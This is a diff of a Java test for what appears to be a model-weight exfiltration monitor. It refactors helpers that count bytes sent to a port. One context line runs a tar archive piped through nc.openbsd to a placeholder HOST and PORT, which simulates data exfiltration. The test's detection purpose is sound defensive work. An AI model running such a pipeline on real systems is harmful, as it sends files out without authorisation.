@@ -12,7 +12,6 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.modelwarden.coverage.Way;
 import io.modelwarden.event.FileFacts;
 import io.modelwarden.event.FileFacts.Verdict;
-import io.modelwarden.event.KernelEvent.BytesSent;
 import io.modelwarden.event.KernelEvent.Channel;
 import io.modelwarden.event.KernelEvent.DataMoved;
 import io.modelwarden.event.KernelEvent.Direction;
@@ -24,7 +23,6 @@ import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.concurrent.TimeUnit;
-import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Tag;
@@ -137,8 +135,8 @@ class StagedCopyTest {
     } else {
       assertThat(received).isEqualTo(MODEL_BYTES);
     }
-    assertThat(sentTo(port)).isEqualTo(received);
-    ProcessKey sender = senderTo(port);
+    assertThat(observed.bytesSentTo(port)).isEqualTo(received);
+    ProcessKey sender = observed.sentTo(port).get(0).process();
     assertThat(observed.of(ProcessSeen.class, seen -> seen.process().key().sameProcess(sender)))
         .anyMatch(seen -> seen.process().origin() == Origin.PASSED);
     assertThat(moved(sender, Direction.READ, channelOf(script))).isEqualTo(received);
@@ -153,8 +151,8 @@ class StagedCopyTest {
       run("tar -cPf COPY " + large + "; nc.openbsd -N HOST PORT <COPY", port);
       observed.settle();
     }
-    ProcessKey sender = senderTo(port);
-    long copy = sentTo(port);
+    ProcessKey sender = observed.sentTo(port).get(0).process();
+    long copy = observed.bytesSentTo(port);
     assertThat(copy).isGreaterThan(LARGE_BYTES);
     long undecided =
         observed
@@ -212,7 +210,7 @@ class StagedCopyTest {
           port);
       observed.settle();
       assertThat(sink.goOn()).containsEntry("bytes", String.valueOf(1_000_000 + STAGED_BYTES - 1));
-      assertThat(sentTo(port)).isZero();
+      assertThat(observed.bytesSentTo(port)).isZero();
     }
   }
 
@@ -281,18 +279,5 @@ class StagedCopyTest {
             .start();
     assertThat(shell.waitFor(20, TimeUnit.SECONDS)).isTrue();
     assertThat(shell.exitValue()).isZero();
-  }
-
-  private static Stream<BytesSent> sends(int port) {
-    return observed.of(
-        BytesSent.class, sent -> sent.flow().port() == port && sent.flow().peer() != null);
-  }
-
-  private static long sentTo(int port) {
-    return sends(port).mapToLong(sent -> sent.increment().bytes()).sum();
-  }
-
-  private static ProcessKey senderTo(int port) {
-    return sends(port).findFirst().orElseThrow().process();
   }
 }
